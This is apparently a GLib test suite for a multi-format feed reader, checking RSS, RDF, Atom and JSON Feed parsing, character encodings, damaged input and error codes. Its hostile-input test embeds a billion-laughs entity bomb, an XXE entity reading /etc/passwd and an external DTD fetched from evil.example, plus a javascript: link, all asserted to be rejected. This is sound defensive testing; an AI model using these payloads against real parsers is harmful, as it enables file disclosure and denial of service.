/* SPDX-License-Identifier: GPL-3.0-or-later */

#include "hc-feed-reader.h"

#include <string.h>

/* Feeds of every format, written for these tests after the specifications: RSS 2.0 (rssboard.org), RSS 1.0
 * (web.resource.org), RFC 4287, JSON Feed 1.1. */

#define ADDRESS "https://feeds.example.org/news/feed.xml"

static HcFeed *
read_with (const char  *text,
           gssize       length,
           const char  *content_type,
           GError     **error)
{
  g_autoptr (GBytes) bytes = g_bytes_new (text, length < 0 ? strlen (text) : (gsize) length);

  return hc_feed_read (bytes, content_type, ADDRESS, error);
}

/* Writes an item a line: title|link|author|published|updated|text. */
static char *
print_items (HcFeed *feed)
{
  GString *text = g_string_new (NULL);

  for (guint i = 0; i < feed->items->len; i++)
    {
      const HcFeedItemDetails *item = hc_feed_item_get_details (g_ptr_array_index (feed->items, i));

      g_string_append_printf (text, "%s|%s|%s|%" G_GINT64_FORMAT "|%" G_GINT64_FORMAT "|%s\n", item->title,
                              item->link != NULL ? item->link : "-",
                              item->author != NULL ? item->author : "-",
                              item->published != NULL ? g_date_time_to_unix (item->published) : 0,
                              item->updated != NULL ? g_date_time_to_unix (item->updated) : 0, item->text);
    }

  return g_string_free_and_steal (text);
}

#define assert_feed(source, kind, name, page, about, expected)                     \
  G_STMT_START {                                                                    \
    g_autoptr (GError) error_ = NULL;                                               \
    g_autoptr (HcFeed) feed_ = read_with (source, -1, NULL, &error_);               \
    g_autofree char *items_ = NULL;                                                 \
    g_assert_no_error (error_);                                                     \
    items_ = print_items (feed_);                                                   \
    g_assert_cmpstr (items_, ==, expected);                                         \
    g_assert_cmpint (feed_->format, ==, kind);                                      \
    g_assert_cmpstr (feed_->title, ==, name);                                       \
    g_assert_cmpstr (feed_->home, ==, page);                                        \
    g_assert_cmpstr (feed_->description, ==, about);                                \
    g_assert_false (feed_->is_damaged);                                             \
  } G_STMT_END

static void
assert_error (const char  *text,
              gssize       length,
              HcFeedError  code)
{
  g_autoptr (GError) error = NULL;
  g_autoptr (HcFeed) feed = read_with (text, length, NULL, &error);

  g_assert_null (feed);
  g_test_message ("%s", error->message);
  g_assert_error (error, HC_FEED_ERROR, (int) code);
}

static void
test_rss (void)
{
  assert_feed (
    "<?xml version=\"1.0\" encoding=\"utf-8\"?>\n"
    "<rss version=\"2.0\" xmlns:content=\"http://purl.org/rss/1.0/modules/content/\"\n"
    "     xmlns:dc=\"http://purl.org/dc/elements/1.1/\" xmlns:atom=\"http://www.w3.org/2005/Atom\">\n"
    "<channel><title>Gut News &amp; More</title><atom:link rel=\"self\" "
    "href=\"https://feeds.example.org/self\"/>\n"
    "<link>https://news.example.org/</link><description>&lt;p&gt;What is new&lt;/p&gt;</description>\n"
    "<image><title>Logo</title><link>https://logo.example/</link><url>x.png</url></image>\n"
    "<item><title>First &amp;#8217; &lt;b&gt;item&lt;/b&gt;</title><link>https://news.example.org/1</link>\n"
    " <description>&lt;p&gt;Short&lt;/p&gt;</description><content:encoded><![CDATA[<h2>Long</h2><p>text</p>"
    "]]></content:encoded>\n"
    " <pubDate>Sat, 21 Nov 2026 14:37:55 GMT</pubDate><author>jo@example.org (Jo Doe)</author>\n"
    " <guid isPermaLink=\"false\">one</guid></item>\n"
    "<item><title>AT&amp;T has 3 &lt; 5</title></item>\n"
    "<item><title>Trials of A &lt; B</title><guid>https://news.example.org/2</guid><dc:creator>Ann "
    "Lee</dc:creator>\n"
    " <dc:date>2026-11-21T09:37:55-05:00</dc:date><description>plain &amp; simple</description></item>\n"
    "<item><description>Only words</description><link>/3?a=1&amp;b=2</link></item>\n"
    "</channel></rss>",
    HC_FEED_FORMAT_RSS, "Gut News & More", "https://news.example.org/", "What is new",
    "First \xe2\x80\x99 item|https://news.example.org/1|Jo Doe|1795271875|0|2Long\nptext\n"
    "AT&T has 3 < 5|-|-|0|0|\n"
    "Trials of A < B|https://news.example.org/2|Ann Lee|1795271875|0|pplain &amp; simple\n"
    "|https://feeds.example.org/3?a=1&b=2|-|0|0|pOnly words\n");
}

static void
test_rdf (void)
{
  assert_feed (
    "<rdf:RDF xmlns:rdf=\"http://www.w3.org/1999/02/22-rdf-syntax-ns#\" xmlns=\"http://purl.org/rss/1.0/\"\n"
    "         xmlns:dc=\"http://purl.org/dc/elements/1.1/\">\n"
    "<channel rdf:about=\"https://j.example/rss\"><title>Journal</title><link>https://j.example</link>\n"
    "<description>Issues</description><items><rdf:Seq><rdf:li resource=\"https://j.example/1\"/></rdf:Seq>"
    "</items></channel>\n"
    "<image rdf:about=\"x\"><title>No</title></image>\n"
    "<item rdf:about=\"https://j.example/1\"><title>Paper</title><link>https://j.example/1</link>\n"
    "<dc:date>2026-11-21</dc:date><dc:creator>Lee A</dc:creator><description>Abstract</description></item>\n"
    "</rdf:RDF>",
    HC_FEED_FORMAT_RDF, "Journal", "https://j.example/", "Issues",
    "Paper|https://j.example/1|Lee A|1795219200|0|pAbstract\n");
}

static void
test_atom (void)
{
  assert_feed (
    "<?xml version=\"1.0\"?><feed xmlns=\"http://www.w3.org/2005/Atom\" "
    "xml:base=\"https://a.example/blog/\">\n"
    "<title type=\"html\">A &amp;amp; B</title><subtitle>Notes</subtitle><link href=\"./\"/><link "
    "rel=\"self\" href=\"x\"/>\n"
    "<author><name>Everybody</name></author>\n"
    "<entry><id>tag:a.example,2026:1</id><title>Less &lt; more</title><link rel=\"alternate\" "
    "type=\"text/html\" href=\"one\"/>\n"
    " <link rel=\"enclosure\" href=\"one.mp3\"/><published>2026-11-21T14:37:55Z</published>\n"
    " <updated>2026-11-21T20:07:55+05:30</updated><author><name>Jo</name><email>jo@a.example</email>"
    "</author>\n"
    " <summary>Short</summary>\n"
    " <content type=\"xhtml\" xml:base=\"deep/\"><div xmlns=\"http://www.w3.org/1999/xhtml\"><p>See <a "
    "href=\"two\">two &amp; \n"
    "  three</a> <em>now</em>.</p><script>x</script></div></content></entry>\n"
    "<entry><id>tag:a.example,2026:2</id><title type=\"html\">&lt;em&gt;Em&lt;/em&gt;</title><link "
    "href=\"two?a=1&amp;b=2\"/>\n"
    " <updated>2026-11-21T14:37:55Z</updated><content type=\"html\">&lt;p&gt;&amp;eacute;&lt;/p&gt;"
    "</content></entry>\n"
    "<entry><id>tag:a.example,2026:3</id><title>T</title><updated>2026-11-21T14:37:55Z</updated>\n"
    " <content>&lt;b&gt; is text</content><source><title>No</title><id>no</id></source></entry>\n"
    "</feed>",
    HC_FEED_FORMAT_ATOM, "A & B", "https://a.example/blog/", "Notes",
    "Less < more|https://a.example/blog/one|Jo|1795271875|1795271875|"
    "pSee <a href=\"https://a.example/blog/deep/two\">two &amp; three</a> <i>now</i>.\n"
    "Em|https://a.example/blog/two?a=1&b=2|-|0|1795271875|p\xc3\xa9\n"
    "T|-|-|0|1795271875|p&lt;b&gt; is text\n");
}

static void
test_json (void)
{
  assert_feed (
    "{\"version\":\"https://jsonfeed.org/version/1.1\",\"title\":\"J <b>"
    "\",\"home_page_url\":\"https://j.example/\","
    "\"description\":\"D\",\"items\":["
    "{\"id\":1,\"url\":\"https://j.example/1\",\"title\":\"One\",\"content_html\":\"<p>a &amp; b</p>\","
    "\"date_published\":\"2026-11-21T14:37:55Z\",\"authors\":[{\"name\":\"Jo\"}]},"
    "{\"id\":\"2\",\"external_url\":\"https://o.example/\",\"content_text\":\"<i> is text\\nline\","
    "\"author\":{\"name\":\"Ann\"},\"date_modified\":\"2026-11-21T14:37:55Z\"},"
    "{\"id\":\"3\",\"title\":null,\"content_html\":7,\"summary\":\"S\",\"date_published\":true,"
    "\"authors\":{}},"
    "null, 5, [], {}, {\"id\":\"4\"}]}",
    HC_FEED_FORMAT_JSON, "J <b>", "https://j.example/", "D",
    "One|https://j.example/1|Jo|1795271875|0|pa &amp; b\n"
    "|https://o.example/|Ann|0|1795271875|p&lt;i&gt; is text\npline\n"
    "|-|-|0|0|p7\n");
}

/* One thing by two names, and two things by one name. */
static void
test_duplicates (void)
{
  g_autoptr (GError) error = NULL;
  g_autoptr (HcFeed) feed = read_with (
    "<rss><channel><title>T</title>"
    "<item><guid isPermaLink='false'>a</guid><title>A</title><link>https://x.example/a</link></item>"
    "<item><guid isPermaLink='false'>a</guid><title>A again</title><link>https://x.example/b</link></item>"
    "<item><guid isPermaLink='false'>b</guid><title>A</title><link>https://x.example/a</link></item>"
    "<item><title>No id</title><link>https://x.example/c</link></item>"
    "<item><title>Other words</title><link>https://x.example/c</link></item>"
    "<item><title>Nothing else</title></item><item><title>Nothing else</title></item>"
    "<item><title>Nothing else</title><description>but this</description></item>"
    "<item></item><item><title>  </title></item>"
    "</channel></rss>", -1, NULL, &error);
  g_autofree char *items = NULL;

  g_assert_no_error (error);
  items = print_items (feed);
  g_assert_cmpstr (items, ==,
                   "A|https://x.example/a|-|0|0|\n"
                   "No id|https://x.example/c|-|0|0|\n"
                   "Nothing else|-|-|0|0|\n"
                   "Nothing else|-|-|0|0|pbut this\n");
}

#define TITLE_OF(text) "<?xml version=\"1.0\"?><rss><channel><item><title>" text \
                       "</title></item></channel></rss>"

static void
assert_title (const char *bytes,
              gssize      length,
              const char *content_type,
              const char *expected)
{
  g_autoptr (GError) error = NULL;
  g_autoptr (HcFeed) feed = read_with (bytes, length, content_type, &error);

  g_assert_no_error (error);
  g_assert_cmpuint (feed->items->len, ==, 1);
  g_assert_cmpstr (hc_feed_item_get_details (g_ptr_array_index (feed->items, 0))->title, ==, expected);
}

static char *
make_encoded (const char *charset,
              const char *declared,
              gsize      *length)
{
  g_autofree char *text = g_strdup_printf ("<?xml version=\"1.0\"%s?><rss><channel><item><title>"
                                           "caf\xc3\xa9</title></item>"
                                           "</channel></rss>", declared);

  return g_convert (text, -1, charset, "UTF-8", NULL, length, NULL);
}

static void
test_encodings (void)
{
  static const struct
  {
    const char *charset;
    const char *declared;
    const char *content_type;
  } encodings[] = {
    { "UTF-8", "", NULL },
    { "UTF-8", " encoding='UTF-8'", "application/rss+xml; charset=utf-8" },
    { "ISO-8859-1", " encoding='ISO-8859-1'", NULL },
    { "ISO-8859-15", " encoding=\"ISO-8859-15\"", "text/xml" },
    { "ISO-8859-1", "", "text/xml; charset=\"iso-8859-1\"" },
    { "ISO-8859-1", " encoding='UTF-8'", "text/xml; charset=iso-8859-1" },
    { "WINDOWS-1252", "", NULL },
    { "UTF-16", " encoding='UTF-16'", NULL },    /* with a mark */
    { "UTF-16LE", " encoding='UTF-16'", NULL },  /* without */
    { "UTF-16BE", "", "text/xml; charset=utf-16be" },
    { "UTF-32", "", NULL },
    { "UTF-8", " encoding='ISO-8859-1'", NULL }, /* what nobody means */
    { "UTF-8", "", "text/xml; charset=ISO-8859-1" },
    { "UTF-8", " encoding='no-such-thing'", NULL },
  };

  for (guint i = 0; i < G_N_ELEMENTS (encodings); i++)
    {
      gsize length;
      g_autofree char *bytes = make_encoded (encodings[i].charset, encodings[i].declared, &length);

      g_test_message ("%s%s, %s", encodings[i].charset, encodings[i].declared, encodings[i].content_type);
      assert_title (bytes, (gssize) length, encodings[i].content_type, "caf\xc3\xa9");
    }

  assert_title ("\xef\xbb\xbf" TITLE_OF ("x"), -1, NULL, "x");
  assert_title ("\n  " TITLE_OF ("x"), -1, "text/html; charset=", "x");
  /* U+0092 of Windows, which Latin-1 has not. */
  assert_title ("<?xml version='1.0' encoding='iso-8859-1'?><rss><channel><item><title>it\x92s</title>"
                "</item></channel></rss>",
                -1, NULL, "it\xe2\x80\x99s");
  /* Said to be UTF-8, and is not. */
  assert_title (TITLE_OF ("a\xff" "b"), -1, "text/xml; charset=utf-8", "a\xef\xbf\xbd" "b");
  assert_title ("<rss><channel><item><title>a\0b\x0b" "c</title></item></channel></rss>",
                sizeof "<rss><channel><item><title>a\0b\x0b" "c</title></item></channel></rss>" - 1, NULL,
                "a b c");
}

/* Faults that people make, and that need not cost a reader the feed. */
static void
test_lenient (void)
{
  assert_title (TITLE_OF ("caf&eacute; &nbsp;&hellip;"), -1, NULL, "caf\xc3\xa9 \xe2\x80\xa6");
  assert_title ("<!DOCTYPE rss PUBLIC \"-//Netscape Communications//DTD RSS 0.91//EN\""
                " \"http://my.netscape.com/publish/formats/rss-0.91.dtd\">"
                "<rss version=\"0.91\"><channel><item><title>x</title></item></channel></rss>", -1, NULL,
                "x");
  assert_title ("<rss><channel><item><dc:title>x</dc:title></item></channel></rss>", -1, NULL, "x");
  assert_title ("<rss><channel></channel><item><title>x</title></item></rss>", -1, NULL, "x");
  assert_title ("<feed xmlns=\"http://purl.org/atom/ns#\" version=\"0.3\"><entry><title>x</title></entry>"
                "</feed>", -1, NULL,
                "x");
}

/* Of what is cut off the items before that place are taken. */
static void
test_damaged (void)
{
  static const char *const texts[] = {
    "<rss><channel><item><title>A</title></item><item><title>B",
    "<rss><channel><item><title>A</title></item><item><title>B</oops></item></channel></rss>",
    "<rss><channel><item><title>A</title></item>",
    "<rss><channel><item><title>A & B</title></item></channel></rss>",
  };

  for (guint i = 0; i < G_N_ELEMENTS (texts); i++)
    {
      g_autoptr (GError) error = NULL;
      g_autoptr (HcFeed) feed = read_with (texts[i], -1, NULL, &error);

      g_assert_no_error (error);
      g_assert_cmpuint (feed->items->len, >=, 1);
      g_assert_true (g_str_has_prefix (hc_feed_item_get_details (g_ptr_array_index (feed->items, 0))->title,
                                       "A"));
      g_assert_true (feed->is_damaged);
    }
}

static void
test_errors (void)
{
  assert_error ("", -1, HC_FEED_ERROR_EMPTY);
  assert_error (" \n\n", -1, HC_FEED_ERROR_EMPTY);
  assert_error ("hello", -1, HC_FEED_ERROR_NOT_A_FEED);
  assert_error ("PK\003\004", -1, HC_FEED_ERROR_NOT_A_FEED);
  assert_error ("\x1f\x8b\x08", -1, HC_FEED_ERROR_NOT_A_FEED);
  assert_error ("<!DOCTYPE html><html><body>Sign in</body></html>", -1, HC_FEED_ERROR_HTML);
  assert_error ("<?xml version='1.0'?><!-- x --><!DOCTYPE html PUBLIC 'a' 'b'><html xmlns='x'>", -1,
                HC_FEED_ERROR_HTML);
  assert_error ("<HTML><HEAD><TITLE>302</TITLE>", -1, HC_FEED_ERROR_HTML);
  assert_error ("<script>location='x'</script>", -1, HC_FEED_ERROR_HTML);
  assert_error ("<opml/>", -1, HC_FEED_ERROR_NOT_A_FEED);
  assert_error ("<svg xmlns='http://www.w3.org/2000/svg'/>", -1, HC_FEED_ERROR_NOT_A_FEED);
  assert_error ("<", -1, HC_FEED_ERROR_NOT_WELL_FORMED);
  assert_error ("<rss><channel><title>cut", -1, HC_FEED_ERROR_NOT_WELL_FORMED);
  assert_error ("{}", -1, HC_FEED_ERROR_NOT_A_FEED);
  assert_error ("[]", -1, HC_FEED_ERROR_NOT_A_FEED);
  assert_error ("{\"version\":\"https://jsonfeed.org/version/1.1\"}", -1, HC_FEED_ERROR_NOT_A_FEED);
  assert_error ("{\"version\":5,\"items\":[]}", -1, HC_FEED_ERROR_NOT_A_FEED);
  assert_error ("{\"error\":", -1, HC_FEED_ERROR_NOT_WELL_FORMED);
}

static void
test_hostile (void)
{
  g_autoptr (GString) deep = g_string_new ("{\"version\":\"https://jsonfeed.org/version/1\",\"items\":");
  g_autoptr (GString) nested = g_string_new ("<rss><channel>");
  g_autoptr (GString) tag = g_string_new ("<rss ");
  g_autoptr (GString) many = g_string_new ("<rss><channel><title>T</title>");
  g_autofree char *large = g_strnfill (8 * 1024 * 1024 + 1, 'x');
  g_autoptr (GError) error = NULL;
  g_autoptr (HcFeed) feed = NULL;

  /* A hundred bytes that become a thousand million. */
  assert_error ("<!DOCTYPE rss [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\">"
                "<!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;\"><!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;"
                "\">]>"
                "<rss><channel><item><title>&d;</title></item></channel></rss>", -1,
                HC_FEED_ERROR_HAS_DECLARATIONS);
  assert_error ("<!DOCTYPE rss [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>"
                "<rss><channel><item><title>&x;</title></item></channel></rss>", -1,
                HC_FEED_ERROR_HAS_DECLARATIONS);
  assert_error ("<!DOCTYPE rss [<!ENTITY % x SYSTEM \"https://evil.example/x.dtd\"> %x;]>"
                "<rss><channel><item><title>x</title></item></channel></rss>", -1,
                HC_FEED_ERROR_HAS_DECLARATIONS);

  for (guint i = 0; i < 10000; i++)
    g_string_append (deep, "[{\"items\":");
  assert_error (deep->str, -1, HC_FEED_ERROR_TOO_DEEP);

  for (guint i = 0; i < 100 * 1000; i++)
    g_string_append (nested, "<a>");
  assert_error (nested->str, -1, HC_FEED_ERROR_TOO_DEEP);

  for (guint i = 0; tag->len < 4 * 1024 * 1024; i++)
    g_string_append_printf (tag, "a%x='' ", i);
  g_string_append (tag, "/>");
  assert_error (tag->str, -1, HC_FEED_ERROR_TOO_LARGE);

  assert_error (large, -1, HC_FEED_ERROR_TOO_LARGE);

  for (guint i = 0; i < 5000; i++)
    g_string_append_printf (many, "<item><title>Item %u</title></item>", i);
  g_string_append (many, "</channel></rss>");
  feed = read_with (many->str, -1, NULL, &error);
  g_assert_no_error (error);
  g_assert_cmpuint (feed->items->len, ==, 1000);
  g_assert_cmpuint (feed->n_left_out, ==, 4000);
}

/* A title of a megabyte, an address of one, and one that is none. */
static void
test_long_fields (void)
{
  g_autoptr (GString) text = g_string_new ("<rss><channel><item><title>");
  g_autoptr (GError) error = NULL;
  g_autoptr (HcFeed) feed = NULL;
  const HcFeedItemDetails *item;

  for (guint i = 0; i < 200 * 1000; i++)
    g_string_append (text, "word ");
  g_string_append (text, "</title><link>https://x.example/");
  for (guint i = 0; i < 100 * 1000; i++)
    g_string_append (text, "path/");
  g_string_append (text, "</link></item><item><title>B</title><link>javascript:alert(1)</link></item>"
                         "<item><title>C</title><link>mailto:jo@example.org</link></item></channel></rss>");
  feed = read_with (text->str, -1, NULL, &error);
  g_assert_no_error (error);
  g_assert_cmpuint (feed->items->len, ==, 3);

  item = hc_feed_item_get_details (g_ptr_array_index (feed->items, 0));
  g_assert_cmpint (g_utf8_strlen (item->title, -1), <=, 301);
  g_assert_true (g_str_has_suffix (item->title, "…"));
  for (guint i = 0; i < 3; i++)
    g_assert_null (hc_feed_item_get_details (g_ptr_array_index (feed->items, i))->link);
}

int
main (int   argc,
      char *argv[])
{
  g_test_init (&argc, &argv, NULL);

  g_test_add_func ("/sources/feed-reader/rss", test_rss);
  g_test_add_func ("/sources/feed-reader/rdf", test_rdf);
  g_test_add_func ("/sources/feed-reader/atom", test_atom);
  g_test_add_func ("/sources/feed-reader/json", test_json);
  g_test_add_func ("/sources/feed-reader/duplicates", test_duplicates);
  g_test_add_func ("/sources/feed-reader/encodings", test_encodings);
  g_test_add_func ("/sources/feed-reader/lenient", test_lenient);
  g_test_add_func ("/sources/feed-reader/damaged", test_damaged);
  g_test_add_func ("/sources/feed-reader/errors", test_errors);
  g_test_add_func ("/sources/feed-reader/hostile", test_hostile);
  g_test_add_func ("/sources/feed-reader/long-fields", test_long_fields);

  return g_test_run ();
}
